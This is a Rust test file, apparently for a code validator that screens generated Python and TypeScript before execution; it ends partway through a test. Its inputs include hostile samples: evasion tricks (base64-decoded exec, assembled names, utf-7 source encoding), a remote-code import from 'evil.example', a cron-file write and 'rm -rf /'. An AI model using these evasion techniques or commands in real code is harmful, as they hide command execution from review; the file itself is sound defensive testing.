//! Validator behaviour: semantic matching, aliases, strings and comments, syntax errors,
//! tool detection, rule files and concurrency.

use std::collections::BTreeSet;
use std::sync::{Arc, Barrier};

use codeward_core::{CodeValidator, FindingCategory, Language, RiskAssessor, RiskLevel, Severity};
use codeward_security::{Risk, RuleSet, SecurityError, Validator};

use crate::corpus_code::catalogue;

fn validator() -> Validator {
    Validator::new().expect("built-in rules compile")
}

/// Rule ids found in `code`, deduplicated and sorted.
fn rules(language: Language, code: &str) -> Vec<String> {
    let report = validator()
        .check(code, language, &catalogue())
        .expect("validator runs");
    let ids: BTreeSet<String> = report.findings.iter().map(|f| f.rule_id.clone()).collect();
    ids.into_iter().collect()
}

/// One data-driven check: `code` must produce every rule in `expect` and, when `exact`, no other.
#[track_caller]
fn check(language: Language, code: &str, expect: &[&str]) {
    let found = rules(language, code);
    for rule in expect {
        assert!(
            found.iter().any(|r| r == rule),
            "expected {rule} in {found:?} for:\n{code}"
        );
    }
    if expect.is_empty() {
        assert!(
            found.is_empty(),
            "expected no findings, got {found:?} for:\n{code}"
        );
    }
}

/// [`check`], and the program must stop at the approval gate (risk high or critical).
#[track_caller]
fn check_gated(language: Language, code: &str, expect: &[&str]) {
    check(language, code, expect);
    let tools = catalogue();
    let report = validator().check(code, language, &tools).expect("runs");
    let risk = Risk::new().assess(code, language, &report, &tools);
    assert!(
        risk.level >= RiskLevel::High,
        "expected high risk, got {} ({}) for:\n{code}\n{:?}",
        risk.level,
        risk.score,
        report.findings
    );
}

/// [`check_gated`] for each (code, rule) case.
#[track_caller]
fn check_all_gated(language: Language, cases: &[(&str, &str)]) {
    for (code, rule) in cases {
        check_gated(language, code, &[rule]);
    }
}

#[test]
fn python_aliases_and_attribute_chains_resolve() {
    let py = Language::Python;
    check(
        py,
        "import os as o\no.system('id')\n",
        &["py.process.os-system"],
    );
    check(
        py,
        "from subprocess import run as r\nr(['ls'])\n",
        &["py.process.subprocess"],
    );
    check(
        py,
        "import os.path\nos.system('id')\n",
        &["py.process.os-system"],
    );
    check(
        py,
        "from os import system\nf = system\nf('id')\n",
        &["py.process.os-system"],
    );
    check(
        py,
        "import subprocess as sp\nsp.Popen(['x']).wait()\n",
        &["py.process.subprocess"],
    );
    check(
        py,
        "import importlib\nm = importlib.import_module('os')\nm.system('x')\n",
        &["py.process.os-system"],
    );
    check(
        py,
        "import os\nos.environ.get('HOME')\n",
        &["py.secret.environ"],
    );
    check(
        py,
        "from os import environ as env\nprint(env['X'])\n",
        &["py.secret.environ"],
    );
    check(
        py,
        "import urllib.request as u\nu.urlopen('https://x')\n",
        &["py.network.http"],
    );
    check(
        py,
        "import builtins\nbuiltins.eval('1')\n",
        &["py.dynamic.eval"],
    );
}

#[test]
fn typescript_aliases_requires_and_destructuring_resolve() {
    let ts = Language::TypeScript;
    check(
        ts,
        "const cp = require('child_process');\ncp.exec('id');\n",
        &["ts.process.child-process"],
    );
    check(
        ts,
        "import * as cp from 'child_process';\ncp.exec('id');\n",
        &["ts.process.child-process"],
    );
    check(
        ts,
        "const { exec } = require('child_process');\nexec('id');\n",
        &["ts.process.child-process"],
    );
    check(
        ts,
        "const { execSync: run } = require('node:child_process');\nrun('id');\n",
        &["ts.process.child-process"],
    );
    check(
        ts,
        "import { spawn as s } from 'child_process';\ns('id');\n",
        &["ts.process.child-process"],
    );
    check(
        ts,
        "require('child_process').execSync('id');\n",
        &["ts.process.child-process"],
    );
    check(
        ts,
        "const fsp = require('fs/promises');\nawait fsp.writeFile('a', 'b');\n",
        &["ts.fs.write"],
    );
    check(ts, "globalThis.eval('1');\n", &["ts.dynamic.eval"]);
    check(ts, "window['eval']('1');\n", &["ts.dynamic.eval"]);
    check(ts, "const e = eval;\ne('1');\n", &["ts.dynamic.eval"]);
    check(ts, "console.log(process.env.HOME);\n", &["ts.secret.env"]);
    check(
        ts,
        "const { env } = process;\nconsole.log(env.HOME);\n",
        &["ts.secret.env"],
    );
}

#[test]
fn strings_and_comments_never_match() {
    check(
        Language::Python,
        "# os.system('rm -rf /') and eval(x) are dangerous\nmsg = \"subprocess.run(['ls']); __import__('os')\"\nprint(msg)\n",
        &[],
    );
    check(
        Language::Python,
        "def f():\n    \"\"\"Never call exec() or os.system().\"\"\"\n    return 'eval'\n",
        &[],
    );
    check(
        Language::TypeScript,
        "// eval(x); require('child_process').exec('id')\nconst s = \"process.env.SECRET and new Function('x')\";\nconsole.log(s, `fetch('x')`);\n",
        &[],
    );
    check(
        Language::TypeScript,
        "/* while(true) {} */\nconst x = { eval: 1 };\nconsole.log(x.eval);\n",
        &[],
    );
}

#[test]
fn obfuscation_is_seen_through() {
    let py = Language::Python;
    check(
        py,
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        &["py.obfuscation.decode-exec"],
    );
    check(
        py,
        "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        &["py.obfuscation.assembled-name", "py.process.os-system"],
    );
    check(
        py,
        "s = chr(101) + chr(118) + chr(97) + chr(108)\n",
        &["py.obfuscation.chr-chain"],
    );
    check(
        py,
        "import os\nvars(os)['system']('id')\n",
        &["py.process.os-system"],
    );
    check(
        py,
        "import os\nos.__dict__['popen']('id')\n",
        &["py.process.os-system"],
    );
    check(
        py,
        "import os\ngetattr(os, '\\x73ystem')('id')\n",
        &["py.obfuscation.assembled-name", "py.process.os-system"],
    );
    check(
        py,
        "__import__('base64').b64decode('eA==')\nm = __import__(name)\n",
        &["py.dynamic.import-computed"],
    );
    let ts = Language::TypeScript;
    check(ts, "eval(atob('MSsx'));\n", &["ts.obfuscation.decode-exec"]);
    check(
        ts,
        "require('child_' + 'process').exec('id');\n",
        &["ts.obfuscation.assembled-name", "ts.process.child-process"],
    );
    check(
        ts,
        "const n = 'ev' + 'al';\nglobalThis[n]('1');\n",
        &["ts.dynamic.eval", "ts.obfuscation.assembled-name"],
    );
    check(
        ts,
        "const s = String.fromCharCode(101, 118, 97, 108);\n",
        &["ts.obfuscation.char-chain"],
    );
    check(
        ts,
        "''.constructor.constructor('return this')();\n",
        &["ts.reflection.constructor-chain"],
    );
    check(
        ts,
        "(async () => {}).constructor('return 1')();\n",
        &["ts.reflection.constructor-chain"],
    );
    check(
        ts,
        "const F = Object.getPrototypeOf(function* () {}).constructor;\n",
        &["ts.reflection.constructor-chain"],
    );
    check(
        ts,
        "Reflect.get(globalThis, 'ev' + 'al')('1');\n",
        &["ts.dynamic.eval", "ts.obfuscation.assembled-name"],
    );
    check(
        ts,
        "Reflect.get(globalThis, key)('1');\n",
        &["ts.reflection.computed-global"],
    );
}

#[test]
fn loops_without_exit_are_found_and_loops_with_exit_are_not() {
    let py = Language::Python;
    check(
        py,
        "while True:\n    x = 1\n",
        &["py.resource.unbounded-loop"],
    );
    check(
        py,
        "while True:\n    for i in range(3):\n        break\n",
        &["py.resource.unbounded-loop"],
    );
    check(py, "while True:\n    if done():\n        break\n", &[]);
    check(py, "import sys\nwhile 1:\n    sys.exit(0)\n", &[]);
    let ts = Language::TypeScript;
    check(ts, "for (;;) { x++; }\n", &["ts.resource.unbounded-loop"]);
    check(
        ts,
        "while (true) { switch (x) { case 1: break; } }\n",
        &["ts.resource.unbounded-loop"],
    );
    check(ts, "while (true) { if (done()) break; }\n", &[]);
    check(
        ts,
        "do { x++; } while (true);\n",
        &["ts.resource.unbounded-loop"],
    );
}

#[test]
fn findings_carry_position_snippet_and_suggestion() {
    let code = "import json\n\nfor x in []:\n    pass\nresult  = eval(data)\n";
    let report = validator()
        .check(code, Language::Python, &[])
        .expect("runs");
    let f = report
        .findings
        .iter()
        .find(|f| f.rule_id == "py.dynamic.eval")
        .expect("eval found");
    assert_eq!((f.line, f.column), (5, 11));
    assert_eq!(f.snippet, "eval(data)");
    assert_eq!(f.category, FindingCategory::DynamicCode);
    assert_eq!(f.severity, Severity::Critical);
    assert!(!f.suggestion.is_empty() && f.message.contains("eval"));
    assert!(
        report.rules_version.starts_with("python@"),
        "{}",
        report.rules_version
    );

    // Columns count characters, not bytes.
    let report = validator()
        .check("s = 'é'; eval(s)\n", Language::Python, &[])
        .expect("runs");
    assert_eq!(report.findings[0].column, 10);
}

#[test]
fn syntax_errors_are_findings_with_the_error_position() {
    let report = validator()
        .check("x = 1\ndef f(:\n    pass\n", Language::Python, &[])
        .expect("runs");
    assert!(report.has_syntax_error());
    let f = &report.findings[0];
    assert_eq!((f.rule_id.as_str(), f.line), ("py.syntax", 2));
    assert_eq!(f.category, FindingCategory::Syntax);

    let report = validator()
        .check("const a = 1;\nconst x = ;\n", Language::TypeScript, &[])
        .expect("runs");
    assert!(report.has_syntax_error());
    assert_eq!((report.findings[0].line, report.findings[0].column), (2, 9));

    // Unclosed call: a MISSING node.
    let report = validator()
        .check("print(1\n", Language::Python, &[])
        .expect("runs");
    assert!(report.has_syntax_error());
    assert!(
        report.findings[0].message.contains("syntax error"),
        "{}",
        report.findings[0].message
    );

    // Plain JavaScript that is not valid TypeScript (JSX) parses through the JavaScript grammar.
    let report = validator()
        .check(
            "const el = <div>{items.map(i => <p>{i}</p>)}</div>;\n",
            Language::TypeScript,
            &[],
        )
        .expect("runs");
    assert!(!report.has_syntax_error(), "{:?}", report.findings);
}

#[test]
fn tools_used_matches_both_spellings_and_loops() {
    let tools = catalogue();
    let ts = "const n = await demo.notesSearch({ query: 'x' });\nfor (const x of n) { await demo.notesDelete({ id: x.id }); }\nawait weather.getWeather({ city: 'Oslo' });\n";
    let report = validator()
        .check(ts, Language::TypeScript, &tools)
        .expect("runs");
    assert_eq!(
        report.tools_used,
        [
            "demo.notes_delete",
            "demo.notes_search",
            "weather.get-weather"
        ]
    );
    let looped: Vec<&str> = report
        .findings
        .iter()
        .filter(|f| f.rule_id == "ts.resource.tool-call-in-loop")
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(looped.len(), 1);
    assert!(looped[0].contains("`demo.notes_delete`"), "{looped:?}");
    assert_eq!(report.looped_tools, ["demo.notes_delete"]);

    let py = "import asyncio\nr = demo.notes_search(query='x')\nasyncio.gather(*[files.read_file(path=p) for p in r])\nfiles.readFile(path='a')\n";
    let report = validator()
        .check(py, Language::Python, &tools)
        .expect("runs");
    assert_eq!(report.tools_used, ["demo.notes_search", "files.read_file"]);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.rule_id == "py.resource.tool-call-in-loop")
    );

    // Unknown servers and methods are not tools.
    let report = validator()
        .check("other.notes_search()\n", Language::Python, &tools)
        .expect("runs");
    assert!(report.tools_used.is_empty());
}

#[test]
fn every_category_has_rules_in_both_languages() {
    let v = validator();
    for language in Language::ALL {
        let code_by_category: &[(FindingCategory, &str)] = match language {
            Language::Python => &[
                (FindingCategory::DynamicCode, "eval('1')"),
                (
                    FindingCategory::ProcessSpawn,
                    "import subprocess\nsubprocess.run(['x'])",
                ),
                (FindingCategory::Filesystem, "open('a', 'w')"),
                (
                    FindingCategory::Network,
                    "import requests\nrequests.get('https://x')",
                ),
                (FindingCategory::SecretAccess, "import os\nos.getenv('X')"),
                (FindingCategory::Reflection, "x.__mro__"),
                (FindingCategory::Obfuscation, "exec(bytes.fromhex('31'))"),
                (FindingCategory::ResourceAbuse, "import os\nos.fork()"),
            ],
            _ => &[
                (FindingCategory::DynamicCode, "new Function('x')"),
                (FindingCategory::ProcessSpawn, "Deno.run({ cmd: ['x'] })"),
                (
                    FindingCategory::Filesystem,
                    "import fs from 'fs'; fs.writeFileSync('a', 'b')",
                ),
                (FindingCategory::Network, "new WebSocket('wss://x')"),
                (FindingCategory::SecretAccess, "Deno.env.get('X')"),
                (FindingCategory::Reflection, "a.__proto__ = b"),
                (FindingCategory::Obfuscation, "eval(atob('eA=='))"),
                (
                    FindingCategory::ResourceAbuse,
                    "import cluster from 'cluster'; cluster.fork()",
                ),
            ],
        };
        for (category, code) in code_by_category {
            let report = v.check(code, language, &[]).expect("runs");
            assert!(
                report.findings.iter().any(|f| f.category == *category),
                "{language}: no {category:?} finding for {code}: {:?}",
                report.findings
            );
        }
    }
}

#[test]
fn rule_files_can_be_overridden() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("custom.toml");
    std::fs::write(
        &path,
        r#"version = "test-7"
language = "python"
[[rule]]
id = "custom.print"
category = "dynamic_code"
severity = "warning"
calls = ["print"]
message = "prints"
suggestion = "return instead"
"#,
    )
    .expect("write rules");
    let v = Validator::builder()
        .python_rules(&path)
        .build()
        .expect("custom rules");
    let report = v
        .check("print(1)\neval('x')\n", Language::Python, &[])
        .expect("runs");
    let ids: Vec<&str> = report.findings.iter().map(|f| f.rule_id.as_str()).collect();
    assert_eq!(ids, ["custom.print"]);
    assert_eq!(report.rules_version, "python@test-7");

    std::fs::write(&path, "version = \"1\"\nlanguage = \"python\"\n[[rule]]\nid = \"x\"\ncategory = \"network\"\nseverity = \"error\"\nchecks = [\"nope\"]\nmessage = \"m\"\nsuggestion = \"s\"\n")
        .expect("write rules");
    match Validator::builder().python_rules(&path).build() {
        Err(SecurityError::RuleInvalid {
            rule_id, problem, ..
        }) => {
            assert_eq!(rule_id, "x");
            assert!(problem.contains("unknown check `nope`"), "{problem}");
        }
        other => panic!("expected RuleInvalid, got {other:?}"),
    }
    std::fs::write(&path, "version = \n").expect("write rules");
    let err = Validator::builder()
        .python_rules(&path)
        .build()
        .expect_err("bad toml");
    assert!(
        err.to_string().contains("custom.toml") && err.to_string().contains("line 1"),
        "{err}"
    );
}

#[test]
fn rules_compile_once_under_concurrent_first_use() {
    let threads = 16;
    let barrier = Arc::new(Barrier::new(threads));
    let handles: Vec<_> = (0..threads)
        .map(|i| {
            let barrier = Arc::clone(&barrier);
            std::thread::spawn(move || {
                barrier.wait();
                let v = Validator::new().expect("validator");
                let lang = if i % 2 == 0 {
                    Language::Python
                } else {
                    Language::TypeScript
                };
                v.rules(lang).version().to_owned()
            })
        })
        .collect();
    for h in handles {
        assert!(!h.join().expect("thread").is_empty());
    }
    // One compilation per language for the whole process, however many validators exist.
    assert_eq!(RuleSet::builtin_compilations(), 2);
}

#[test]
fn validator_is_shared_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Validator>();
    let shared: Arc<dyn CodeValidator> = Arc::new(validator());
    let handles: Vec<_> = (0..4)
        .map(|_| {
            let v = Arc::clone(&shared);
            std::thread::spawn(move || {
                v.validate("import os\nos.system('x')\n", Language::Python, &[])
                    .expect("runs")
                    .findings
                    .len()
            })
        })
        .collect();
    for h in handles {
        assert_eq!(h.join().expect("thread"), 1);
    }
}

#[test]
fn deeply_nested_input_does_not_overflow() {
    let depth = 2000;
    let py = format!("x = {}1{}\n", "(".repeat(depth), ")".repeat(depth));
    validator().check(&py, Language::Python, &[]).expect("runs");
    let ts = format!("const x = {}a{};\n", "[".repeat(depth), "]".repeat(depth));
    validator()
        .check(&ts, Language::TypeScript, &[])
        .expect("runs");
    let parens = format!(
        "while {}True{}:\n    pass\n",
        "(".repeat(depth),
        ")".repeat(depth)
    );
    validator()
        .check(&parens, Language::Python, &[])
        .expect("runs");
    let ts_parens = format!(
        "while {}true{} {{}}\n",
        "(".repeat(depth),
        ")".repeat(depth)
    );
    validator()
        .check(&ts_parens, Language::TypeScript, &[])
        .expect("runs");
    let member = format!("a{}.b();\n", ".c".repeat(20 * depth));
    validator()
        .check(&member, Language::TypeScript, &catalogue())
        .expect("runs");
    let chain = format!("import os\nos{}.system('x')\n", ".a".repeat(depth));
    validator()
        .check(&chain, Language::Python, &[])
        .expect("runs");
}

#[test]
fn chained_calls_are_resolved_once_per_level() {
    // Forty nested calls: resolving each callee twice would mean 2^40 steps (a hang).
    let calls = format!("const x = f{};\n", "()".repeat(40));
    validator()
        .check(&calls, Language::TypeScript, &[])
        .expect("runs");
    let trims = format!("const y = \"a\"{};\n", ".trim()".repeat(40));
    validator()
        .check(&trims, Language::TypeScript, &[])
        .expect("runs");
}

/// A generated API with only these bindings (object, function, tool).
fn api(language: Language, bindings: &[(&str, &str, &str)]) -> codeward_core::GeneratedApi {
    let mut api = codeward_core::GeneratedApi::new(language, String::new(), String::new(), 0, 0);
    api.bindings = bindings
        .iter()
        .map(|(o, f, t)| codeward_core::ApiBinding::new(*o, *f, *t))
        .collect();
    api
}

#[test]
fn tool_calls_through_renamed_identifiers_count_with_the_api_bindings() {
    // A server `fs` is generated as `fs_`, a tool `import` as `import_` in Python, and of two
    // servers spelled alike the second becomes `myNotes2`: spellings alone miss all three.
    let schema = serde_json::json!({"type": "object"});
    let tools = vec![
        codeward_core::ToolSchema::new("delete_file", "deletes a file", schema.clone())
            .with_server("fs"),
        codeward_core::ToolSchema::new("import", "imports notes", schema.clone())
            .with_server("notes"),
        codeward_core::ToolSchema::new("add", "adds a note", schema.clone())
            .with_server("my-notes"),
        codeward_core::ToolSchema::new("add", "adds a note", schema).with_server("my_notes"),
    ];
    let ts = "import { fs_, myNotes2 } from './codeward_api';\nawait fs_.deleteFile({ path: '/tmp/a' });\nawait myNotes2.add({});\n";
    let ts_api = api(
        Language::TypeScript,
        &[
            ("fs_", "deleteFile", "fs.delete_file"),
            ("myNotes", "add", "my-notes.add"),
            ("myNotes2", "add", "my_notes.add"),
        ],
    );
    let v = validator();
    let guessed = v.check(ts, Language::TypeScript, &tools).expect("runs");
    assert!(guessed.tools_used.is_empty(), "{:?}", guessed.tools_used);
    let exact = v.check_for_api(ts, &ts_api, &tools).expect("runs");
    assert_eq!(exact.tools_used, ["fs.delete_file", "my_notes.add"]);
    // Through the seam as the orchestrator calls it, and the risk it leads to.
    let seam = v.validate_for_api(ts, &ts_api, &tools).expect("runs");
    assert_eq!(seam.tools_used, exact.tools_used);
    let risk = codeward_security::Risk::new();
    use codeward_core::RiskAssessor;
    let before = risk.assess(ts, Language::TypeScript, &guessed, &tools);
    let after = risk.assess(ts, Language::TypeScript, &exact, &tools);
    assert!(after.score > before.score, "{before:?} vs {after:?}");

    let py = "from codeward_api import notes\nnotes.import_(path='a')\n";
    let py_api = api(Language::Python, &[("notes", "import_", "notes.import")]);
    assert!(
        v.check(py, Language::Python, &tools)
            .expect("runs")
            .tools_used
            .is_empty()
    );
    let exact = v.check_for_api(py, &py_api, &tools).expect("runs");
    assert_eq!(exact.tools_used, ["notes.import"]);
}

#[test]
fn a_call_that_looks_like_a_tool_call_still_meets_every_rule() {
    // A catalogue server named like a module (`os`, `fs`) must not hide the module's calls.
    let schema = serde_json::json!({"type": "object"});
    let tools = vec![
        codeward_core::ToolSchema::new("system", "runs a command", schema.clone())
            .with_server("os"),
        codeward_core::ToolSchema::new("write_file", "writes", schema).with_server("fs"),
    ];
    let py = validator()
        .check("import os\nos.system('id')\n", Language::Python, &tools)
        .expect("runs");
    assert!(
        py.findings
            .iter()
            .any(|f| f.category == FindingCategory::ProcessSpawn),
        "{:?}",
        py.findings
    );
    assert_eq!(py.tools_used, ["os.system"], "and it may be the tool too");
    let ts = validator()
        .check(
            "import * as fs from 'node:fs';\nfs.writeFileSync('/etc/cron.d/x', 'y');\n",
            Language::TypeScript,
            &tools,
        )
        .expect("runs");
    assert!(
        ts.findings
            .iter()
            .any(|f| f.category == FindingCategory::Filesystem),
        "{:?}",
        ts.findings
    );
}

#[test]
fn tools_called_through_the_generic_call_tool_count_by_name_or_all_of_them() {
    let schema = serde_json::json!({"type": "object"});
    let tools = vec![
        codeward_core::ToolSchema::new("delete_file", "deletes", schema.clone()).with_server("fs"),
        codeward_core::ToolSchema::new("read_file", "reads", schema).with_server("fs"),
    ];
    let v = validator();
    let ts = "import { callTool } from './codeward_api';\nawait callTool('fs.delete_file', { path: 'a' });\n";
    let r = v.check(ts, Language::TypeScript, &tools).expect("runs");
    assert_eq!(r.tools_used, ["fs.delete_file"]);
    let py = "from codeward_api import call_tool\ncall_tool('fs.delete_file', {'path': 'a'})\n";
    let r = v.check(py, Language::Python, &tools).expect("runs");
    assert_eq!(r.tools_used, ["fs.delete_file"]);
    // A name computed at run time may be any tool the program can reach.
    let ts = "import { callTool } from './codeward_api';\nconst t = String(Date.now() % 2 ? 'fs.read_file' : 'fs.delete_file') + '';\nfor (const p of ['a', 'b']) { await callTool(t, { path: p }); }\n";
    let r = v.check(ts, Language::TypeScript, &tools).expect("runs");
    assert_eq!(r.tools_used, ["fs.delete_file", "fs.read_file"]);
    assert_eq!(
        r.looped_tools,
        ["fs.delete_file", "fs.read_file"],
        "both counted as called in the loop"
    );
    let py = "from codeward_api import call_tool\nname = input()\ncall_tool(name, {})\n";
    let r = v.check(py, Language::Python, &tools).expect("runs");
    assert_eq!(r.tools_used, ["fs.delete_file", "fs.read_file"]);
}

#[test]
fn tool_calls_through_aliased_imports_of_the_api_count() {
    let schema = serde_json::json!({"type": "object"});
    let tools = vec![
        codeward_core::ToolSchema::new("delete_file", "deletes", schema.clone()).with_server("fs"),
        codeward_core::ToolSchema::new("import", "imports", schema).with_server("notes"),
    ];
    let ts_api = api(
        Language::TypeScript,
        &[("fs_", "deleteFile", "fs.delete_file")],
    );
    let v = validator();
    for ts in [
        "import { fs_ as f } from './codeward_api';\nawait f.deleteFile({ path: 'a' });\n",
        "import * as api from './codeward_api';\nawait api.fs_.deleteFile({ path: 'a' });\n",
        "const { fs_: files } = require('./codeward_api');\nawait files.deleteFile({ path: 'a' });\n",
    ] {
        let r = v.check_for_api(ts, &ts_api, &tools).expect("runs");
        assert_eq!(r.tools_used, ["fs.delete_file"], "{ts}");
    }
    let py_api = api(Language::Python, &[("notes", "import_", "notes.import")]);
    for py in [
        "from codeward_api import notes as n\nn.import_(path='a')\n",
        "import codeward_api as api\napi.notes.import_(path='a')\n",
    ] {
        let r = v.check_for_api(py, &py_api, &tools).expect("runs");
        assert_eq!(r.tools_used, ["notes.import"], "{py}");
    }
}

/// The line of the `py.encoding` finding that refuses `code` as invalid, if any.
fn refused_encoding_line(code: &str) -> Option<u32> {
    let findings = validator()
        .check(code, Language::Python, &[])
        .ok()?
        .findings;
    let refusal = findings.into_iter().find(|f| f.rule_id == "py.encoding")?;
    // A Syntax finding: the orchestrator refuses the program as invalid.
    assert_eq!(refusal.category, FindingCategory::Syntax);
    assert!(refusal.message.contains("UTF-8"), "{}", refusal.message);
    Some(refusal.line)
}

#[test]
fn python_source_encodings_other_than_utf8_are_refused() {
    // CPython decodes the bytes with a PEP 263 codec: under utf-7 the comment on line 2 is
    // `import os` and `os.system("id")` on lines of their own.
    let cases: &[(&str, Option<u32>)] = &[
        (
            "# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system(\"id\")\n",
            Some(1),
        ),
        (
            "#!/usr/bin/env python3\n# vim: set fileencoding=UTF-7 :\nprint(1)\n",
            Some(2),
        ),
        ("\u{feff}# coding=latin-1\nprint(1)\n", Some(1)),
        ("\x0c  #coding:cp1252\nprint(1)\n", Some(1)),
        ("# coding: utf-8\n# coding: utf-7\nprint(1)\n", Some(2)),
        // A lone CR ends line 1 for CPython.
        ("x = 1\r# coding: utf_7\rprint(1)\n", Some(2)),
        ("# this decoding: is done below\nprint(1)\n", Some(1)),
        // UTF-8 under any spelling CPython reads as UTF-8 is fine.
        ("# -*- coding: utf-8 -*-\nimport json\n", None),
        ("#!/usr/bin/env python3\n# coding=UTF8\nimport json\n", None),
        ("# coding: utf_8\nimport json\n", None),
        // Only lines 1 and 2 count, and only comment lines.
        ("\n\n# coding: utf-7\nimport json\n", None),
        ("x = '# coding: utf-7'\nprint(x)\n", None),
    ];
    for (code, line) in cases {
        assert_eq!(refused_encoding_line(code), *line, "{code:?}");
    }
    // TypeScript has no such declaration: the same comment is just a comment.
    let report = validator()
        .check(
            "// -*- coding: utf-7 -*-\nconsole.log(1);\n",
            Language::TypeScript,
            &[],
        )
        .expect("runs");
    assert!(report.findings.is_empty(), "{:?}", report.findings);
}

#[test]
fn a_lone_carriage_return_ends_a_python_comment() {
    // CPython reads `\r` as a line break (universal newlines): the code after it runs.
    check(
        Language::Python,
        "# notes\rimport os\ros.system('id')\n",
        &["py.process.os-system"],
    );
    check(
        Language::Python,
        "# a\r\nimport json\r\nprint(json.dumps(1))\r\n",
        &[],
    );
    // TypeScript's grammar already ends `//` comments at CR, U+2028 and U+2029.
    for sep in ["\r", "\u{2028}", "\u{2029}"] {
        check(
            Language::TypeScript,
            &format!("// notes{sep}eval('1');\n"),
            &["ts.dynamic.eval"],
        );
    }
}

#[test]
fn typescript_module_loaders_and_url_imports_are_seen() {
    let ts = Language::TypeScript;
    // Node 22's process.getBuiltinModule is require for built-in modules.
    check_gated(
        ts,
        "process.getBuiltinModule(\"child_process\").execSync(\"id\");\n",
        &["ts.process.child-process"],
    );
    check_gated(
        ts,
        "const { execSync } = globalThis.process.getBuiltinModule('node:child_process');\nexecSync('id');\n",
        &["ts.process.child-process"],
    );
    check_gated(
        ts,
        "const m = process.getBuiltinModule(name);\n",
        &["ts.dynamic.import"],
    );
    // createRequire returns a require function.
    check_gated(
        ts,
        "import { createRequire } from 'node:module';\nconst req = createRequire(import.meta.url);\nreq('child_process').exec('id');\n",
        &["ts.process.child-process"],
    );
    // A data: URL import is eval; http(s), file and blob URLs load unreviewed code.
    check_gated(
        ts,
        "await import(\"data:text/javascript,import('child_process').then(m=>m.execSync('id'))\");\n",
        &["ts.dynamic.url-import"],
    );
    check_gated(
        ts,
        "import run from 'https://evil.example/x.js';\nrun();\n",
        &["ts.dynamic.url-import"],
    );
    check_gated(
        ts,
        "require('file:///tmp/x.js');\n",
        &["ts.dynamic.url-import"],
    );
    // A module named at run time was already refused; it still is.
    check_gated(
        ts,
        "const m = await import(spec);\n",
        &["ts.dynamic.import"],
    );
    check(
        ts,
        "const m = await import('./helpers.js');\nm.run();\n",
        &[],
    );
}

#[test]
fn dangerous_functions_stored_passed_or_contained_are_findings() {
    let py = Language::Python;
    for code in [
        "from os import system as s\nx = [s]\nx[0]('id')\n",
        "import os\nd = {'k': os.system}\nd['k']('id')\n",
        "import os\nclass A:\n    run = os.system\nA.run('id')\n",
        "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n",
        "from os import *\nhandlers = (system,)\nhandlers[0]('id')\n",
        "import os\nx = [getattr(os, 'system')]\nx[0]('id')\n",
        "import os\nos.system.__call__('id')\n",
        "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
        "import operator\nf = operator.attrgetter('system')(__import__('os'))\nf('id')\n",
    ] {
        check_gated(py, code, &["py.process.os-system"]);
    }
    check_gated(py, "x = [exec]\nx[0]('print(1)')\n", &["py.dynamic.eval"]);
    let ts = Language::TypeScript;
    for code in [
        "[eval][0]('1');\n",
        "const a = [Function];\na[0]('return 1')();\n",
        "const o = { eval };\no.eval('1');\n",
        "eval.call(null, '1');\n",
        "Reflect.apply(eval, null, ['1']);\n",
        "const run = (f: any) => f('1');\nrun(globalThis.eval);\n",
    ] {
        check_gated(ts, code, &["ts.dynamic.eval"]);
    }
    check_gated(
        ts,
        "const { execSync } = require('child_process');\nconst fns = { run: execSync };\nfns.run('id');\n",
        &["ts.process.child-process"],
    );
}

#[test]
fn modules_reached_out_of_sight_are_findings() {
    // A module with dangerous members whose member is named at run time, or which is
    // itself stored or passed, is `hidden-member`.
    let py = Language::Python;
    for code in [
        "import os\nfor k in ['system']:\n    getattr(os, k)('id')\n",
        "import operator\noperator.attrgetter(name)(__import__('os'))('id')\n",
        "import os\nvars(os)[k]('id')\n",
        "import builtins\ngetattr(builtins, k)('print(1)')\n",
        "import os\nx = [os]\nx[0].system('id')\n",
        "def run(m):\n    m.system('id')\nrun(__import__('os'))\n",
    ] {
        check_gated(py, code, &["py.reflection.hidden-member"]);
    }
    let ts = Language::TypeScript;
    for code in [
        "const cp = require('child_process');\nfor (const m of ['execSync']) { cp[m]('id'); }\n",
        "Reflect.get(process, key)('x');\n",
        "const ms = [require('child_process')];\nms[0].execSync('id');\n",
        "import * as cp from 'node:child_process';\nconst pick = (m: any) => m.execSync('id');\npick(cp);\n",
    ] {
        check_gated(ts, code, &["ts.reflection.hidden-member"]);
    }
    // The event loop's spawners, whatever the loop is called.
    check_gated(
        py,
        "import asyncio\nasync def main():\n    loop = asyncio.get_running_loop()\n    await loop.subprocess_exec('id')\n",
        &["py.process.subprocess"],
    );
    check_gated(
        py,
        "import asyncio\nspawn = getattr(asyncio.get_running_loop(), 'subprocess_shell')\n",
        &["py.process.subprocess"],
    );
}

#[test]
fn harmless_uses_of_dangerous_names_stay_quiet() {
    // Inspected, not kept; a module's followed members; a free name that is a parameter.
    let py = Language::Python;
    check(
        py,
        "import types\ndef f(x: int) -> bool:\n    return isinstance(x, types.FunctionType)\n",
        &[],
    );
    check(
        py,
        "import os, json\nfor name in ['dumps']:\n    f = getattr(json, name)\ncfg = {'sep': os.sep, 'join': os.path.join}\nprint(os.path.basename('a/b'))\n",
        &["py.reflection.computed-getattr"],
    );
    check(
        py,
        "def handle(request, sh):\n    return [request, sh.cell, request.get]\n",
        &[],
    );
    let ts = Language::TypeScript;
    check(
        ts,
        "if (typeof fetch === 'function') { console.log(1); }\nconst ok = x instanceof Function;\n",
        &[],
    );
    check(
        ts,
        "import fs from 'fs';\nconst fsp = fs.promises;\nconst text = await fsp.readFile('a.txt', 'utf8');\nconsole.log(text);\n",
        &[],
    );
    check(
        ts,
        "function handle(request: any) { return [request, request.url, request.json]; }\nconst f = console[level];\nconst g = Math[op];\n",
        &[],
    );
    // Built-in constructors are ordinary values: subclassed, listed, passed.
    check(
        ts,
        "class NotFound extends Error {}\nconst kinds = [Error, TypeError];\nconst shapes = { Object, Array };\nconsole.log(String(Error), kinds.length, shapes, import.meta);\n",
        &[],
    );
}

#[test]
fn python_identifiers_are_read_nfkc_normalized() {
    // CPython normalizes identifiers with NFKC (PEP 3131): full-width and mathematical
    // letters spell the same names (each of these runs under python3).
    let py = Language::Python;
